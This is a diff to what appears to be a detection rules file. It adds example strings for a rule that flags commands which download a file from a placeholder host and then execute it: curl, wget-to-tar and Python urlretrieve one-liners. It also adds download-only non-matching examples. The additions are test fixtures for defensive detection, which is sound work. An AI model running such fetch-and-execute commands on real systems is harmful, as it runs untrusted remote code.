@@ -343,6 +343,10 @@ RULES: tuple[Rule, ...] = (
             "curl -o p.py https://x.io/p.py; python3 p.py",
             "curl -s https://x.io/i.sh > i.sh && sh ./i.sh",
             "wget -O /tmp/x.deb https://x.io/x.deb && sudo dpkg -i /tmp/x.deb",
+            "curl -sL https://x.io/b -o ~/.local/bin/hlp && chmod +x ~/.local/bin/hlp && hlp",
+            "wget -q https://x.io/p.tgz -O- | tar xz -C ~/apps && ~/apps/p/run.sh",
+            "python3 -c \"import urllib.request as u; u.urlretrieve('https://x', '/tmp/p')\""
+            " && /tmp/p",
         ),
         non_matches=(
             "curl -o data.json https://api.example/data && jq . data.json",
@@ -350,6 +354,8 @@ RULES: tuple[Rule, ...] = (
             "curl -fsSLo /tmp/install.sh https://get.example.dev/install && less /tmp/install.sh",
             "wget -q https://example.org/data.csv -O data.csv && head data.csv",
             "curl -o jq https://x.io/jq && sha256sum jq",
+            "curl -sL https://x.io/b -o ~/.local/bin/helper && chmod +x ~/.local/bin/helper",
+            "wget https://x.io/t.tgz && tar xzf t.tgz -C ./vendor && ls vendor",
             "./configure && make",
         ),
     ),  # fmt: skip
